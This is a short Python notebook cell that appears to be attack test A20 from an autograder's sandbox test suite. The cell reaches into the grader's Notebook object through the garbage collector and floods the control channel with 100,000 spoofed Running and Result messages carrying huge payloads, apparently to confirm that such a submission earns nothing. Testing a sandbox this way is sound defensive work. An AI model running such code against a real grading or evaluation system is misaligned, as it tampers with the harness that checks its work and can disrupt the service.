# attack: A20: the control channel is flooded with results and with cells that begin
# earns: nothing
# %%
import gc

from autograder.sandbox.notebook_process import Notebook
from autograder.wire.messages import Error, Result, Running

[me] = [o for o in gc.get_objects() if isinstance(o, Notebook)]
for _ in range(100_000):
    me.tell(Running(1))
    me.tell(Result(1, Error("E" * 1000, "m" * 100_000, None, None), False, ["n" * 1000] * 20, "o" * 100_000))
